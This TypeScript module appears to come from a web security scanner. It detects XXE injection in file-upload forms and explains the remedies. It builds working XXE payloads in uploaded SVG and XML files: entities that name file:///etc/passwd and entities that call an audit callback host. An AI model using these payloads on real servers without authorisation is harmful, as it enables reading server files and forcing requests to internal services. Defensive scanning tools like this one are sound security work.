import { callbackSpot } from '../../model/callbacks.ts';
import type { Candidate } from '../../model/candidate.ts';
import { claim, type Experiment, type Step } from '../../model/experiment.ts';
import { ProbeError } from '../../model/probe-error.ts';
import { firstMatch } from '../../proof/pattern.ts';
import { newTrialValues } from '../../proof/template.ts';
import { type CheckContext, defineCheck, notApplicable } from '../contract.ts';
import { likeliest } from '../inputs/at-most.ts';
import { callbackWaitMs, calledExperiment, expectAll } from '../inputs/callback-look.ts';
import type { OpenedInput, UploadedFile } from '../inputs/input-request.ts';
import { inputSteps, openInput, requestOfInput } from '../inputs/open-input.ts';
import { kindNamed, parsedKinds } from './parsed-uploads.ts';
import { contextOf } from './plant.ts';
import { unixFiles } from './traversal-payloads.ts';
import { maxForms, sending, type Taking, takingForms } from './upload-forms.ts';

/** `kind` is a name of one of the kinds that are parsed. */
type ReadUpload = Taking & { kind: string };
type ReadBackUpload = ReadUpload & { read?: { pattern: string; path: string } };
type AwaitedUpload = { token: string; candidate: Candidate<ReadBackUpload> };

const naming = (kind: string, path: string): UploadedFile =>
  kindNamed(kind).file(`<!ENTITY x SYSTEM "file:///${path}">`);
const asText = (kind: string, text: string): UploadedFile => kindNamed(kind).file(`<!ENTITY x "${text}">`);
/** Both kinds of entities: programs resolve one and not the other. */
const calling = (kind: string, host: string): UploadedFile => {
  const url = `http://${callbackSpot(host, '‹callback›')}`;
  return kindNamed(kind).file(`<!ENTITY % y SYSTEM "${url}">%y;<!ENTITY x SYSTEM "${url}">`);
};

const maxKinds = 2;

/** A drawing or a document that is sent as a file is read by a parser that opens what it names. Source: CWE-611, WSTG-INPV-07. */
export const xxeUpload = defineCheck<ReadBackUpload>({
  id: 'injection.xxe-upload',
  title: 'XML external entity injection (XXE) in a file upload',
  cwe: 611,
  owasp: 'A02:2025',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  depth: 'deep',
  risk: 'caution',
  cost: 20,

  async detect(context) {
    if (context.writes !== 'create')
      return notApplicable('Files that are sent stay, which only a scope with "writes": "create" allows.');
    const forms = likeliest(context, takingForms(context), maxForms, 'forms that take a file');
    if (forms.length === 0) return notApplicable('No form takes a file.');
    const found: Candidate<ReadBackUpload>[] = [];
    const awaited: AwaitedUpload[] = [];
    for (const form of forms) {
      const kinds = likeliest(context, parsedKinds(form.accept, form.called), maxKinds, 'kinds of files for a form');
      for (const { name: kind } of kinds) {
        const parsed = { ...form, kind };
        const looked = await tryFiles(context, parsed);
        if (looked?.read) found.push(candidateFor({ ...parsed, read: looked.read }));
        if (looked?.read) break;
        if (looked?.token) awaited.push({ token: looked.token, candidate: candidateFor(parsed) });
      }
    }
    return [...found, ...(await calledOf(context, awaited))];
  },

  async confirm(context, { data }) {
    return (
      data &&
      experimentFor(data, await openInput(contextOf(context, data.identity), data.input), context.callbacks?.host)
    );
  },

  explain: {
    description:
      'The form takes a drawing (SVG) or a document (XML, DOCX, XLSX), which the server reads with an XML parser that resolves external entities: the content of a file of the server that it names comes back in the answer, or the parser opens an address that it names.',
    impact:
      'Whoever may send a file can read files of the server: source code, settings with passwords and keys. Most parsers open addresses as well, so that the server can be made to ask internal services.',
    sends:
      'With `writes: "create"`, sends each form that takes a file up to two kinds that its field names (SVG, XML, DOCX, XLSX): one whose entity is a text, one that names `/etc/passwd`, one that names our listener; 4 more for a proof. They may stay, recorded before they are sent.',
    proves:
      'The answer to the form has the form of that file; the same whose entity is a text does not: files are read. Where only our listener is called, that the parser opens what is named is shown, and not that it can be read.',
    remedy:
      'Turn off document types and external entities in the parser that reads what is sent, also in the parts of archives: `resolve_entities=False, no_network=True` or `defusedxml` (Python), `setFeature("http://apache.org/xml/features/disallow-doctype-decl", true)` (Java), no `LIBXML_NOENT` and `LIBXML_DTDLOAD` (PHP), `DtdProcessing.Prohibit` (.NET). Take no SVG where pictures are enough.',
    references: [
      'CWE-611: https://cwe.mitre.org/data/definitions/611.html',
      'OWASP XXE Prevention Cheat Sheet: https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
      'OWASP File Upload Cheat Sheet: https://cheatsheetseries.owasp.org/cheatsheets/File_Upload_Cheat_Sheet.html',
    ],
  },
});

/** The first look is at the same file without anything external: a form that refuses it is sent no other. @throws ProbeError, ProofError */
async function tryFiles(
  context: CheckContext,
  parsed: ReadUpload,
): Promise<{ read?: ReadBackUpload['read']; token?: string } | undefined> {
  const [file] = unixFiles;
  if (!file) return undefined;
  const { path, pattern } = file;
  const base = await answerTo(context, parsed, asText(parsed.kind, path));
  if (base === undefined || firstMatch(pattern, base)) return undefined;
  const answer = await answerTo(context, parsed, naming(parsed.kind, path));
  if (answer !== undefined && firstMatch(pattern, answer)) return { read: { path, pattern } };
  if (answer === undefined || !context.callbacks) return undefined;
  const token = context.callbacks.newToken();
  await answerTo(context, parsed, calling(parsed.kind, context.callbacks.host), token);
  return { token };
}

/** Those that were called for, when all were waited for once; what is called later is left to the end of the run. */
async function calledOf(
  context: CheckContext,
  awaited: readonly AwaitedUpload[],
): Promise<Candidate<ReadBackUpload>[]> {
  if (awaited.length === 0) return [];
  const calls = await context.callbacks?.wait(
    awaited.map(({ token }) => token),
    callbackWaitMs,
  );
  const isCalled = ({ token }: AwaitedUpload) => calls?.some((call) => call.token === token) ?? false;
  expectAll(
    context,
    awaited.filter((each) => !isCalled(each)),
  );
  return awaited.filter(isCalled).map(({ candidate }) => candidate);
}

/** Undefined where the form refuses the file. */
async function answerTo(
  context: CheckContext,
  taking: Taking,
  file: UploadedFile,
  token = '',
): Promise<string | undefined> {
  const sender = contextOf(context, taking.identity);
  try {
    const opened = await openInput(sender, taking.input);
    const values = newTrialValues(context.nonce, () => token);
    const request = await requestOfInput(sender, opened, sending(taking, opened, file), values);
    return await context.store?.(taking.identity, request, ({ status, text }) =>
      Promise.resolve(status === 413 || status === 415 ? undefined : text),
    );
  } catch (error) {
    if (error instanceof ProbeError && error.code === 'refused') return undefined;
    throw error;
  }
}

function candidateFor(parsed: ReadBackUpload): Candidate<ReadBackUpload> {
  const { input, identity, kind, read } = parsed;
  const who = identity === '' ? 'Anybody' : `The test identity "${identity}"`;
  const needs = identity === '' ? 'N' : 'L';
  return {
    location: { url: input.url, method: 'POST', parameter: input.parameter, parameterIn: 'body' as const },
    route: input.route,
    ...(read
      ? {
          detail: `${who} sends ${kind} that names the file /${read.path}, and the answer shows that file.`,
          cvss: `CVSS:3.1/AV:N/AC:L/PR:${needs}/UI:N/S:U/C:H/I:N/A:N`,
        }
      : {
          detail: `${who} sends ${kind} that names a listener of the audit, and the parser called it; that files can be read was not shown.`,
          cvss: `CVSS:3.1/AV:N/AC:L/PR:${needs}/UI:N/S:C/C:L/I:N/A:N`,
        }),
    data: parsed,
  };
}

function experimentFor(parsed: ReadBackUpload, input: OpenedInput, host = ''): Experiment {
  const { read, kind, identity } = parsed;
  const asSender = (step: Step): Step => ('http' in step && identity !== '' ? { ...step, identity } : step);
  const action = (file: UploadedFile) => sending(parsed, input, file);
  if (!read) {
    const way = { action: action(calling(kind, host)), inert: action(asText(kind, '‹callback›')) };
    const { steps, control } = calledExperiment(
      { input, way },
      {
        sent: 'The file names an address of the listener with a word that nobody has been told.',
        called: 'The parser calls that address.',
        control: 'With the word as a text of the file there is nothing to open.',
      },
    );
    return { steps: steps.map(asSender), control: control.map(asSender) };
  }
  const shown = claim('body', 'matches', read.pattern, 'The answer has the form of the file.');
  const send = (file: UploadedFile, note: string) =>
    inputSteps(input, action(file), { note, expect: [shown] }).map(asSender);
  return {
    steps: send(naming(kind, read.path), 'What is sent names a file, and the parser opens it.'),
    control: send(asText(kind, read.path), 'The same whose entity is a text opens nothing.'),
  };
}
